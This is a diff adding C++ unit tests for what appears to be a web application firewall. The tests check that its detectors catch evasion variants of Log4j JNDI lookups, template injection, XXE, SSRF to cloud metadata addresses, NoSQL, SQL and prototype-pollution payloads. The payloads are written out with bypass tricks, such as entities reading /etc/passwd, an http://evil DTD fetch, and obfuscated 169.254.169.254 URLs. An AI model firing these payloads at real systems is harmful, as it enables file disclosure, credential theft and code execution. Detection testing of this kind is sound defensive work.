@@ -165,10 +165,73 @@ TEST(NativeJndi, NestedLookupsResolveAsLog4jDoes) {
   for (const char* v : {"${HOME}", "${env:USER}", "${lower:JNDI}", "jndi:ldap://e",
                         "${java:version}", "price ${5}"})
     EXPECT_FALSE(jndi_in(v)) << v;
-  // Deep nesting is bounded, not recursive without end.
+  // Java folds these letters to ASCII in upper/lower lookups (a published bypass).
+  EXPECT_TRUE(jndi_in("${jnd${upper:\xc4\xb1}:ldap://evil/a}"));
+  // Log4j resolves any depth: nesting deeper than 16 is reported, never followed further.
   std::string deep;
   for (int i = 0; i < 100000; ++i) deep += "${";
-  EXPECT_FALSE(jndi_in(deep));
+  EXPECT_TRUE(jndi_in(deep));
+  std::string seventeen;
+  for (int i = 0; i < 17; ++i) seventeen += "${";
+  EXPECT_TRUE(jndi_in(seventeen + "jndi:ldap://e/a" + std::string(17, '}')));
+}
+
+// What an attack review found getting past the first version of the detectors (each checked
+// against the real parser: Jinja2, libxml2, Log4j's lookup rules, curl/Python/Node URLs).
+TEST(NativeReview, PaddingEncodingsAndParserQuirksDoNotHideAttacks) {
+  // SSTI: white space inside an expression, spaces around filters, Twig's map, ERB backticks.
+  EXPECT_TRUE(ssti_in("{{ cycler.__init__.__globals__.os['po'~'pen'](request.args.c).read()" +
+                      std::string(300, ' ') + "}}"));
+  EXPECT_TRUE(ssti_in("{{['id']|map('system')|join}}"));
+  EXPECT_TRUE(ssti_in("{{['id'] | filter('system')}}"));
+  EXPECT_TRUE(ssti_in("<%= `id` %>"));
+  EXPECT_TRUE(ssti_in("{{ request[request.args.a][request.args.b] }}"));
+  EXPECT_FALSE(ssti_in("{{ .Values.namespace.name }}"));  // Helm
+  EXPECT_FALSE(ssti_in("{{ settings.SITE_NAME }}"));
+  // XXE: padding, UTF-16, XInclude of 2003, as the default namespace, behind a reference.
+  EXPECT_TRUE(xxe_in("<!DOCTYPE x [<!ENTITY" + std::string(2100, ' ') +
+                     "e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"));
+  EXPECT_TRUE(xxe_in("<!DOCTYPE" + std::string(3000, ' ') + "x SYSTEM \"http://evil/x.dtd\">"));
+  std::string utf16 = "\xff\xfe";
+  for (char c : std::string("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>")) {
+    utf16 += c;
+    utf16 += '\0';
+  }
+  EXPECT_TRUE(xxe_in(utf16));
+  EXPECT_TRUE(xxe_in(
+      "<x xmlns:xi=\"http://www.w3.org/2003/XInclude\"><xi:include href=\"/etc/passwd\"/></x>"));
+  EXPECT_TRUE(xxe_in("<include xmlns=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>"));
+  EXPECT_TRUE(xxe_in("<x xmlns:xi=\"http://www.w3.org/&#50;001/XInclude\"/>"));
+  // SSRF: userinfo with ; , ' ), a backslash before '@', one slash, backslashes, no slash, a
+  // tab inside, math digits and the halfwidth full stop, a bare address, GCE's short name.
+  for (const char* v :
+       {"http://a;b@169.254.169.254/latest/meta-data/", "http://a,b@169.254.169.254/",
+        "http://a'b@169.254.169.254/", "http://x.example\\@169.254.169.254/",
+        "http:/169.254.169.254/", "http:\\\\169.254.169.254\\", "http:169.254.169.254/",
+        "http://1\t69.254.169.254/",
+        "http://\xf0\x9d\x9f\x8f\xf0\x9d\x9f\x94\xf0\x9d\x9f\x97.254.169.254/",
+        "http://169\xef\xbd\xa1"
+        "254\xef\xbd\xa1"
+        "169\xef\xbd\xa1"
+        "254/",
+        "http://\xe2\x91\xaf"
+        "9.254.169.254/",
+        "169.254.169.254", "http://metadata/computeMetadata/v1/",
+        "see http://example.com, then http://169.254.169.254)"})
+    EXPECT_TRUE(metadata_host_in(v)) << v;
+  std::string many;
+  for (int i = 0; i < 100; ++i) many += "http://example.com/a ";
+  EXPECT_TRUE(metadata_host_in(many + "http://169.254.169.254/"));
+  EXPECT_FALSE(
+      metadata_host_in("http://b\xc3\xbc"
+                       "cher.example/ and 169.254"));
+  // NoSQL: GraphQL variables are not operators; update operators and \u0024 escapes are.
+  EXPECT_FALSE(
+      nosql_in_value("mutation AddComment($postId: ID!, $text: String!) { add(id: $postId, text: "
+                     "$text) { id } }"));
+  EXPECT_FALSE(nosql_in_value("query Q($where: String, $size: Int) { x }"));
+  EXPECT_TRUE(nosql_key("json.$set.role"));
+  EXPECT_TRUE(nosql_in_value("{\"password\":{\"\\u0024ne\":\"\"}}"));
 }
 
 TEST(NativeList, NamesAllNoneAndMistakes) {
@@ -286,6 +349,34 @@ TEST(NativeEngine, DetectModeLogsAndRemovalAndOptionsTurnThemOff) {
   EXPECT_FALSE(other.on(attack).blocked);
   Eng only(kOn, kNativeProto);
   EXPECT_TRUE(only.on(attack).blocked);
+}
+
+TEST(NativeReview, PathsHeadersAndValuesThatCarryAttacks) {
+  Eng g{std::string(kOn)};
+  // A router decodes %2F inside one parameter: the segment is judged as the router sees it.
+  Verdict p = g.on(
+      "GET /files/1%2F**%2FUNION%2F**%2FSELECT%2F**%2Fpassword%2F**%2FFROM%2F**%2Fusers "
+      "HTTP/1.1\r\nHost: h\r\n\r\n");
+  EXPECT_EQ(p.rule_id, 7700710);
+  Verdict a = g.on("GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer x' OR '1'='1\r\n\r\n");
+  EXPECT_EQ(a.rule_id, 7700700);
+  Verdict b = g.on("GET / HTTP/1.1\r\nHost: h\r\nAccept-Language: en' OR '1'='1\r\n\r\n");
+  EXPECT_EQ(b.rule_id, 7700700);
+  EXPECT_FALSE(g.on("GET / HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer "
+                    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_x\r\nAccept-Language: "
+                    "de-DE,de;q=0.9,en;q=0.8\r\n\r\n")
+                   .blocked);
+  // A property path as a value (lodash-style set(obj, path, v)).
+  Verdict v = g.on("GET /?path=__proto__.isAdmin&v=1 HTTP/1.1\r\nHost: h\r\n\r\n");
+  EXPECT_EQ(v.rule_id, 7700500);
+  EXPECT_FALSE(g.on("GET /?q=what+does+__proto__+do HTTP/1.1\r\nHost: h\r\n\r\n").blocked);
+  // An XML body without Content-Type is still read as XML by a parser that sniffs it.
+  std::string xml =
+      "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
+  Verdict x =
+      g.on("POST /api HTTP/1.1\r\nHost: h\r\nContent-Length: " + std::to_string(xml.size()) +
+           "\r\n\r\n" + xml);
+  EXPECT_EQ(x.rule_id, 7700100);
 }
 
 // The metrics text (the server itself is tested through `waf run`, tests/cli WafRun).
